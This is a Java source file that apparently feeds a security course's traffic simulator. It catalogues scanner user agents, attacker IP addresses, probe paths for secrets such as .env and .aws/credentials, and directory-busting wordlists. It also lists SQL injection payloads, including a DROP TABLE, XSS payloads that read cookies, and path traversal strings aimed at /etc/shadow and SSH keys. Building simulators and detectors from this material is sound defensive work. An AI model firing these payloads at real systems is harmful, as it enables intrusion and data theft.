// AttackCatalog.java -- the paths, payloads, user agents and addresses the simulator's attackers use.
package sentinel;

import java.util.List;

/** Material for simulated attacks, taken from what real tools (sqlmap, Nikto, gobuster, dirb, ffuf) send. */
final class AttackCatalog {
    private AttackCatalog() {}

    /** Attacker addresses; none is ever a normal visitor. 10.0.0.9 is the course's example attacker. */
    static final List<String> IPS = List.of("10.0.0.9", "45.148.10.172", "185.220.101.47", "193.41.206.92",
            "80.94.95.115", "162.243.140.18", "104.248.53.201", "159.203.88.12", "5.188.210.101", "2a06:4880:4000::2c");

    static final String NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:";
    static final String NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
    static final String OLD_CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36";

    static final List<String> PROBE_UAS = List.of("curl/8.5.0", "-", "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0",
            "Go-http-client/1.1", "Mozilla/5.0 (l9scan/2.0.3; +https://leakix.net)", OLD_CHROME);
    static final List<String> SQLI_UAS = List.of("sqlmap/1.7.2#stable (https://sqlmap.org)",
            "sqlmap/1.8.11#stable (https://sqlmap.org)",
            "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.2.3) Gecko/20100401 Firefox/3.6.3",
            "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US) AppleWebKit/532.0 (KHTML, like Gecko) Chrome/3.0.195.27 Safari/532.0",
            "python-requests/2.31.0", "curl/8.5.0");
    static final List<String> XSS_UAS = List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.100 Safari/537.36",
            "python-requests/2.31.0", "curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
            "Fuzz Faster U Fool v2.1.0");
    static final List<String> TRAVERSAL_UAS = List.of("curl/8.5.0", "python-requests/2.31.0", "Fuzz Faster U Fool v2.1.0",
            "-", OLD_CHROME, "Go-http-client/1.1");
    static final List<String> SCANNER_UAS = List.of("sqlmap/1.7.2#stable (https://sqlmap.org)", NIKTO, "gobuster/3.6",
            "curl/8.5.0", "python-requests/2.31.0", "-", "Fuzz Faster U Fool v2.1.0", NMAP,
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "feroxbuster/2.10.4");
    static final List<String> ODD_UAS = List.of("curl/8.5.0", "python-requests/2.31.0", NMAP, "-", "Go-http-client/1.1");
    static final List<String> DOWNLOAD_UAS = List.of("python-requests/2.31.0", "Wget/1.21.4", "curl/8.5.0");

    /** What bots look for on every server: admin panels, secrets, backups, known-vulnerable endpoints. */
    static final List<String> PROBE_PATHS = List.of("/admin", "/admin/", "/administrator/", "/admin/login", "/manager/html",
            "/.env", "/.git/config", "/.git/HEAD", "/.htpasswd", "/.aws/credentials", "/.DS_Store", "/.svn/entries",
            "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/server-status", "/config.php.bak",
            "/backup.zip", "/db.sql", "/actuator/env", "/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system?wt=json", "/telescope/requests",
            "/_ignition/health-check", "/owa/auth/logon.aspx", "/remote/login", "/.well-known/security.txt.bak");

    /** SQL injection as typed by hand or by tools; entries with a raw space are refused by nginx with 400. */
    static final List<String> SQLI_PAYLOADS = List.of("' OR 1=1--", "' OR '1'='1", "1 UNION SELECT username,password FROM users--",
            "%27%20OR%201%3D1--", "%27+OR+%271%27%3D%271", "1%27%20UNION%20SELECT%20NULL,NULL,NULL--",
            "-1+UNION+ALL+SELECT+1,@@version,3--+-", "1'+AND+SLEEP(5)--+-", "1;DROP+TABLE+users--", "admin'--",
            "1'+ORDER+BY+10--+-", "%27%20WAITFOR%20DELAY%20%270:0:5%27--", "'OR'1'='1",
            "1%20AND%201=2%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--",
            "1'%20AND%20extractvalue(1,concat(0x7e,version()))--");
    static final List<String> SQLI_TARGETS = List.of("/search?q=", "/products?category=", "/api/v1/products?id=",
            "/login?next=", "/blog/?page=", "/products?page=");

    static final List<String> XSS_PAYLOADS = List.of("<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
            "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "<img%20src=x%20onerror=alert(1)>",
            "%22%3E%3Csvg/onload=alert(1)%3E", "javascript:alert(document.domain)", "<svg/onload=alert(1)>",
            "%3Cimg%20src%3Dx%20onerror%3Dalert(%27XSS%27)%3E", "<body%20onload=alert(1)>", "'-alert(1)-'",
            "\\x22><script>alert(1)</script>", "<iframe%20src=javascript:alert(1)>", "<img src=x onerror=alert(1)>",
            "%3Cscript%3Eeval(atob(%27YWxlcnQoMSk%3D%27))%3C/script%3E");
    static final List<String> XSS_TARGETS = List.of("/search?q=", "/contact?name=", "/products?category=",
            "/blog/?s=", "/login?next=");

    static final List<String> TRAVERSAL_PREFIXES = List.of("/static/", "/images/", "/download?file=",
            "/api/v1/files?path=", "/", "/blog/?page=", "/cgi-bin/");
    static final List<String> TRAVERSAL_STEPS = List.of("../", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%252f", "....//",
            "..%5c", ".%2e/");
    static final List<String> TRAVERSAL_FILES = List.of("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ",
            "windows/win.ini", "var/log/nginx/access.log", "root/.ssh/id_rsa", ".env", "WEB-INF/web.xml", "boot.ini");

    /** Directory-buster words (dirb's common.txt flavour). */
    static final List<String> SCAN_WORDS = List.of("backup", "backups", "bak", "old", "new", "test", "tmp", "temp", "dev",
            "staging", "cgi-bin", "uploads", "files", "private", "config", "conf", "db", "database", "sql", "logs",
            "shell", "cmd", "upload", "install", "setup", "console", "jenkins", "jmx-console", "solr", "graphql",
            "api/v2", ".hg", ".bash_history", "id_rsa", "server-info", "elmah.axd", "trace.axd", "web.config",
            "crossdomain.xml", "README.md", "CHANGELOG.txt", "composer.json", "package.json", "Dockerfile",
            "docker-compose.yml", ".dockerenv", "site", "www", "wwwroot", "administrator", "creditcards", "passwords");
    static final List<String> SCAN_EXTENSIONS = List.of(".php", ".bak", ".zip", ".old", ".txt", ".sql", ".tar.gz", ".asp");

    static final List<String> ODD_METHODS = List.of("PUT", "DELETE", "TRACE", "CONNECT", "PROPFIND", "TRACK", "MKCOL",
            "PATCH");
    static final List<String> HUGE_TARGETS = List.of("/products", "/home", "/search?q=", "/blog/",
            "/api/v1/products?limit=100000", "/products?page=1&per_page=100000", "/api/v1/export?format=csv");
}
